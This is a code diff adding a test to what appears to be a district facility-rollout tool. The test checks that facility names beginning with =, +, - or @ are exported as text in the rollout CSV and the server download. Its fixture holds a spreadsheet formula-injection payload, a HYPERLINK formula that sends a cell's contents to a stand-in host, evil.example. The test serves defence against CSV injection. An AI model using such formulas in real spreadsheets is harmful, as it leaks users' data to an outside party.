@@ -204,3 +204,27 @@ def test_settings_refuse_what_they_cannot_be(db_url: str, store: Store, capsys: 
     assert main(["setting", "set", "server_url", "ftp://x", "--db", db_url]) == 2
     capsys.readouterr()
     assert rollout.setting(store, "rollout_code_days") == "60"
+
+
+def test_the_rollout_csv_files_write_formula_like_names_as_text(
+        db_url: str, store: Store, server: str, tmp_path: Path, key: tuple[Path, Path]) -> None:
+    """Issue 15 item 4 on the server: a facility's name from the district's list that begins
+    with = + - @ opens as text in the spreadsheet, in the rollout's CSV and the view's download."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    path = tmp_path / "f.csv"
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["code", "name", "district", "block", "type"])
+        writer.writerow(["RJ-JPR-CHC-001", hostile, "Jaipur", "@Block", "CHC"])
+        writer.writerow(["RJ-JPR-CHC-002", "+91 CHC", "Jaipur", "Chaksu", "CHC"])
+    assert main(["facility", "import", str(path), "--db", db_url]) == 0
+    out = tmp_path / "out"
+    assert main(["rollout", "--district", "Jaipur", "--out", str(out), "--key", str(key[0]), "--db", db_url,
+                 "--server-url", "https://ihms.rajasthan.example"]) == 0
+    (listing,) = out.glob("rollout-Jaipur-*.csv")
+    downloaded = requests.get(f"{server}/rollout.csv", params={"district": "Jaipur"}, timeout=30)
+    for text in (listing.read_text(encoding="utf-8-sig"), downloaded.content.decode("utf-8-sig")):
+        rows = {r["facility_code"]: r for r in csv.DictReader(text.splitlines())}
+        assert rows["RJ-JPR-CHC-001"]["name"] == "'" + hostile
+        assert rows["RJ-JPR-CHC-002"]["name"] == "'+91 CHC"
+        assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
